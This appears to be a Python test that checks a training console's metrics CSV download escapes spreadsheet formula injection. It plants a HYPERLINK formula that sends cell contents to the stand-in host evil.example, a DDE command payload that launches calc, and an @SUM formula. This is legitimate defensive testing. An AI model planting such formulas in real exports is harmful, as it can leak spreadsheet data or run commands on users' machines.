"""A trainer's tag or run name cannot plant a formula in the metrics CSV that
the console serves; the values, negative ones included, stay numbers."""

from __future__ import annotations

import csv
import io

from jobs.models import MetricPoint
from tests.helpers.jobs import submit

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"open me")'
COMMAND = "+cmd|' /C calc'!A0"


def test_the_csv_download_quotes_planted_formulas_and_keeps_negative_values(client, project, admin):
    job = submit(project, "planted", admin)
    MetricPoint.objects.bulk_create(
        [
            MetricPoint(
                job=job,
                trial_id="",
                source="tfevents",
                run=COMMAND,
                tag=HYPERLINK,
                step=1,
                value=-0.5,
                wall_time=1_700_000_000.0,
            ),
            MetricPoint(
                job=job,
                trial_id="",
                source="hypertune",
                run="@SUM(1+1)",
                tag="-loss",
                step=2,
                value=0.25,
                wall_time=1_700_000_001.0,
            ),
        ]
    )
    client.force_login(admin)
    download = client.get("/projects/project-a/jobs/planted/metrics/download/")
    assert download["Content-Type"] == "text/csv"
    rows = list(csv.DictReader(io.StringIO(b"".join(download.streaming_content).decode())))
    assert [(r["tag"], r["run"], r["value"], r["step"]) for r in rows] == [
        ("'" + HYPERLINK, "'" + COMMAND, "-0.5", "1"),
        ("'-loss", "'@SUM(1+1)", "0.25", "2"),
    ]
